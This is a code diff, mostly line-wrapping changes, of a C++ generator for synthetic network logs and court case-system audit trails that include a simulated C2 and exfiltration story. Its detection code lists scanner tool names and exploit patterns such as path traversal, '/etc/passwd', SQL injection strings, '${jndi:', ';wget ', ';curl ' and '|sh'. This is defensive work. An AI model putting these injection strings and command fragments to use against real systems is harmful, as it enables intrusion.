     "string\tbool\tbool\tbool\tbool\tcount\tvector[string]\tvector[interval]\tbool\n";
 
 constexpr const char* kHttpHeader =
-    "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\thttp\n#open\t2026-10-01-00-00-00\n"
-    "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\ttrans_depth\tmethod\thost\turi\treferrer\tversion\t"
-    "user_agent\torigin\trequest_body_len\tresponse_body_len\tstatus_code\tstatus_msg\tinfo_code\tinfo_msg\ttags\t"
-    "username\tpassword\tproxied\torig_fuids\torig_filenames\torig_mime_types\tresp_fuids\tresp_filenames\tresp_mime_types\n"
-    "#types\ttime\tstring\taddr\tport\taddr\tport\tcount\tstring\tstring\tstring\tstring\tstring\tstring\tstring\tcount\t"
-    "count\tcount\tstring\tcount\tstring\tset[enum]\tstring\tstring\tset[string]\tvector[string]\tvector[string]\t"
+    "#separator "
+    "\\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\thttp\n#open\t2026-10-"
+    "01-00-00-00\n"
+    "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\ttrans_"
+    "depth\tmethod\thost\turi\treferrer\tversion\t"
+    "user_agent\torigin\trequest_body_len\tresponse_body_len\tstatus_code\tstatus_msg\tinfo_"
+    "code\tinfo_msg\ttags\t"
+    "username\tpassword\tproxied\torig_fuids\torig_filenames\torig_mime_types\tresp_fuids\tresp_"
+    "filenames\tresp_mime_types\n"
+    "#types\ttime\tstring\taddr\tport\taddr\tport\tcount\tstring\tstring\tstring\tstring\tstring\ts"
+    "tring\tstring\tcount\t"
+    "count\tcount\tstring\tcount\tstring\tset[enum]\tstring\tstring\tset[string]\tvector[string]"
+    "\tvector[string]\t"
     "vector[string]\tvector[string]\tvector[string]\tvector[string]\n";
 
-std::string dns_line(Rng& rng, Timestamp t, const std::string& query, const char* qtype, uint32_t qcode,
-                     const std::string& answer) {
-  return unix_time(t, 6) + "\t" + uid_text(rng) + "\t198.51.100.53\t" + std::to_string(rng.between(1024, 65000)) +
-         "\t192.0.2.53\t53\tudp\t" + std::to_string(rng.below(65536)) + "\t0.0" + std::to_string(rng.between(10, 99)) +
-         "\t" + query + "\t1\tC_INTERNET\t" + std::to_string(qcode) + "\t" + qtype +
+std::string dns_line(Rng& rng, Timestamp t, const std::string& query, const char* qtype,
+                     uint32_t qcode, const std::string& answer) {
+  return unix_time(t, 6) + "\t" + uid_text(rng) + "\t198.51.100.53\t" +
+         std::to_string(rng.between(1024, 65000)) + "\t192.0.2.53\t53\tudp\t" +
+         std::to_string(rng.below(65536)) + "\t0.0" + std::to_string(rng.between(10, 99)) + "\t" +
+         query + "\t1\tC_INTERNET\t" + std::to_string(qcode) + "\t" + qtype +
          "\t0\tNOERROR\tF\tF\tT\tT\t0\t" + answer + "\t300.000000\tF";
 }
 
 void dns_day(const World& w, int day, Rng& rng, std::vector<Line>& lines) {
   for (uint32_t i = 0; i < 200 * w.scale; ++i) {
-    const Site& s = rng.percent(90) ? kSites[rng.below(static_cast<uint32_t>(kSites.size()))] : kPlainSites[rng.below(3)];
+    const Site& s = rng.percent(90) ? kSites[rng.below(static_cast<uint32_t>(kSites.size()))]
+                                    : kPlainSites[rng.below(3)];
     const Timestamp t = random_in(rng, day_start(day), day_start(day + 1));
     lines.push_back({t, dns_line(rng, t, s.host, "AAAA", 28, s.ip)});
   }
@@ -1057,21 +1147,24 @@ void dns_day(const World& w, int day, Rng& rng, std::vector<Line>& lines) {
     if (day_of(q) == day) lines.push_back({q, dns_line(story, q, in.c2_host, "A", 1, in.c2_ip)});
   }
   const Timestamp exfil = plus(in.exfiltration, kSecond);
-  if (day_of(exfil) == day) lines.push_back({exfil, dns_line(story, exfil, in.exfil_host, "A", 1, in.exfil_ip)});
+  if (day_of(exfil) == day)
+    lines.push_back({exfil, dns_line(story, exfil, in.exfil_host, "A", 1, in.exfil_ip)});
 }
 
 void http_day(const World& w, int day, Rng& rng, std::vector<Line>& lines) {
   for (uint32_t i = 0; i < 60 * w.scale; ++i) {
     if (is_weekend(day) && rng.percent(80)) continue;
     const Site& s = kPlainSites[rng.below(3)];
-    const Timestamp t = random_in(rng, plus(day_start(day), 7 * kHour), plus(day_start(day), 19 * kHour));
+    const Timestamp t =
+        random_in(rng, plus(day_start(day), 7 * kHour), plus(day_start(day), 19 * kHour));
     std::string uri = "/";
     add_hex(uri, rng.next(), 12, false);
     uri += rng.percent(50) ? ".crl" : ".cab";
     const bool not_modified = rng.percent(20);
     lines.push_back({t, unix_time(t, 6) + "\t" + uid_text(rng) + "\t2001:db8:c0de::40\t" +
-                            std::to_string(rng.between(32768, 65000)) + "\t" + s.ip + "\t80\t1\tGET\t" + s.host + "\t" +
-                            uri + "\t-\t1.1\tMicrosoft-CryptoAPI/10.0\t-\t0\t" +
+                            std::to_string(rng.between(32768, 65000)) + "\t" + s.ip +
+                            "\t80\t1\tGET\t" + s.host + "\t" + uri +
+                            "\t-\t1.1\tMicrosoft-CryptoAPI/10.0\t-\t0\t" +
                             std::to_string(not_modified ? 0 : rng.between(500, 80000)) + "\t" +
                             (not_modified ? "304\tNot Modified" : "200\tOK") +
                             "\t-\t-\t(empty)\t-\t-\t-\t-\t-\t-\t-\t-\t-"});
@@ -1092,9 +1185,9 @@ std::string json_escape(std::string_view text) {
 std::string trail_line(const World& w, Timestamp t, const Person& p, const char* action,
                        const std::string& object, uint64_t bytes, const std::string& case_id,
                        uint64_t session) {
-  std::string out = "{\"timestamp\":\"" + iso_time(t) + "\",\"actor\":\"" + p.account + "\",\"source_ip\":\"" +
-                    w.workstations[static_cast<size_t>(p.workstation)].ip + "\",\"host\":\"" + w.cms.fqdn +
-                    "\",\"action\":\"" + action + "\"";
+  std::string out = "{\"timestamp\":\"" + iso_time(t) + "\",\"actor\":\"" + p.account +
+                    "\",\"source_ip\":\"" + w.workstations[static_cast<size_t>(p.workstation)].ip +
+                    "\",\"host\":\"" + w.cms.fqdn + "\",\"action\":\"" + action + "\"";
   if (!object.empty()) out += ",\"object\":\"" + json_escape(object) + "\"";
   if (bytes != 0) out += ",\"bytes\":" + std::to_string(bytes);
   out += ",\"outcome\":\"success\",\"session\":\"s-";
@@ -1111,7 +1204,8 @@ std::vector<std::pair<int, Folder>> folders_of(const Person& p, size_t cases) {
     case Role::kJudge:
     case Role::kLegalOfficer:
       for (int c : p.cases) {
-        for (Folder f : {Folder::kFilings, Folder::kWitnesses, Folder::kVictims}) out.emplace_back(c, f);
+        for (Folder f : {Folder::kFilings, Folder::kWitnesses, Folder::kVictims})
+          out.emplace_back(c, f);
       }
       break;
     case Role::kRegistry:
@@ -1142,8 +1236,10 @@ void trail_day(const World& w, int day, Rng& rng, std::vector<Line>& lines) {
     if (folders.empty() || is_weekend(day)) continue;
     Rng wd(derive_seed(w.seed, "workday/" + std::to_string(p) + "/" + std::to_string(day)));
     if (wd.percent(4)) continue;
-    const Timestamp arrive = plus(day_start(day), 7 * kHour + 45 * kMinute + wd.below(90 * 60) * kSecond);
-    const Timestamp leave = plus(day_start(day), 16 * kHour + 30 * kMinute + wd.below(150 * 60) * kSecond);
+    const Timestamp arrive =
+        plus(day_start(day), 7 * kHour + 45 * kMinute + wd.below(90 * 60) * kSecond);
+    const Timestamp leave =
+        plus(day_start(day), 16 * kHour + 30 * kMinute + wd.below(150 * 60) * kSecond);
     const uint64_t session = rng.next() & 0xFFFFFFFFFFULL;
     const Timestamp login = plus(arrive, (3 + rng.below(10)) * kMinute);
     lines.push_back({login, trail_line(w, login, person, "login", "", 0, "", session)});
@@ -1155,11 +1251,14 @@ void trail_day(const World& w, int day, Rng& rng, std::vector<Line>& lines) {
       const Timestamp t = random_in(rng, plus(login, kMinute), leave);
       const uint32_t what = rng.below(10);
       if (what == 0) {
-        lines.push_back({t, trail_line(w, t, person, "search", "/cases/" + kase.id, 0, kase.id, session)});
+        lines.push_back(
+            {t, trail_line(w, t, person, "search", "/cases/" + kase.id, 0, kase.id, session)});
       } else if (what == 1 && f == Folder::kFilings && person.role != Role::kTrainee) {
-        lines.push_back({t, trail_line(w, t, person, "write", object_path(kase, f, d), d.bytes, kase.id, session)});
+        lines.push_back({t, trail_line(w, t, person, "write", object_path(kase, f, d), d.bytes,
+                                       kase.id, session)});
       } else {
-        lines.push_back({t, trail_line(w, t, person, "read", object_path(kase, f, d), d.bytes, kase.id, session)});
+        lines.push_back({t, trail_line(w, t, person, "read", object_path(kase, f, d), d.bytes,
+                                       kase.id, session)});
       }
     }
     lines.push_back({leave, trail_line(w, leave, person, "logout", "", 0, "", session)});
@@ -1169,8 +1268,9 @@ void trail_day(const World& w, int day, Rng& rng, std::vector<Line>& lines) {
     if (r.through_share || day_of(r.time) != day) continue;
     const Case& kase = w.cases[static_cast<size_t>(r.case_index)];
     const Document& d = kase.documents[static_cast<int>(r.folder)][static_cast<size_t>(r.document)];
-    lines.push_back({r.time, trail_line(w, r.time, trainee, "read", object_path(kase, r.folder, d), d.bytes, kase.id,
-                                        0x7e5e000000ULL + static_cast<uint64_t>(day))});
+    lines.push_back(
+        {r.time, trail_line(w, r.time, trainee, "read", object_path(kase, r.folder, d), d.bytes,
+                            kase.id, 0x7e5e000000ULL + static_cast<uint64_t>(day))});
   }
 }
 
@@ -1195,8 +1295,8 @@ bool is_scanner_agent(std::string_view agent) {
   for (char& c : lower) {
     if (c >= 'A' && c <= 'Z') c = static_cast<char>(c - 'A' + 'a');
   }
-  for (const char* name : {"nikto", "sqlmap", "nmap", "masscan", "zgrab", "gobuster", "dirbuster", "wpscan",
-                           "nuclei", "acunetix", "nessus"}) {
+  for (const char* name : {"nikto", "sqlmap", "nmap", "masscan", "zgrab", "gobuster", "dirbuster",
+                           "wpscan", "nuclei", "acunetix", "nessus"}) {
     if (lower.find(name) != std::string::npos) return true;
   }
   return false;
@@ -1231,8 +1331,8 @@ bool has_exploit_payload(std::string_view uri, std::string_view agent) {
     return out;
   };
   static constexpr std::array<const char*, 12> kPatterns = {
-      "../", "..\\", "%2e%2e", "/etc/passwd", "union select", "' or '1'='1", "sleep(", "${jndi:",
-      ";wget ", ";curl ", "|sh", "<script"};
+      "../",    "..\\",    "%2e%2e", "/etc/passwd", "union select", "' or '1'='1",
+      "sleep(", "${jndi:", ";wget ", ";curl ",      "|sh",          "<script"};
   for (const std::string& text : {lower(uri), lower(decode(uri)), lower(agent)}) {
     for (const char* p : kPatterns) {
       if (text.find(p) != std::string::npos) return true;
@@ -1305,8 +1405,8 @@ FileResult run_text_job(const World& w, const FileJob& job, const std::string& o
         // distinct ports or 20 distinct hosts that day.
         std::map<std::string, std::pair<std::set<uint32_t>, std::set<std::string>>> failed;
         auto is_failed = [](std::string_view s) {
-          return s == "S0" || s == "REJ" || s == "RSTO" || s == "RSTOS0" || s == "RSTR" || s == "SH" ||
-                 s == "OTH";
+          return s == "S0" || s == "REJ" || s == "RSTO" || s == "RSTOS0" || s == "RSTR" ||
+                 s == "SH" || s == "OTH";
         };
         for (const Conn& c : conns) {
           if (!is_failed(c.state)) continue;
@@ -1316,7 +1416,8 @@ FileResult run_text_job(const World& w, const FileJob& job, const std::string& o
         for (const Conn& c : conns) {
           if (!is_failed(c.state)) continue;
           const auto& f = failed[c.orig];
-          if (f.first.size() >= 20 || f.second.size() >= 20) ++result.categories[{day, "scanning"}][c.orig];
+          if (f.first.size() >= 20 || f.second.size() >= 20)
+            ++result.categories[{day, "scanning"}][c.orig];
         }
         for (const Conn& c : conns) lines.push_back({c.time, conn_line(rng, c)});
         break;
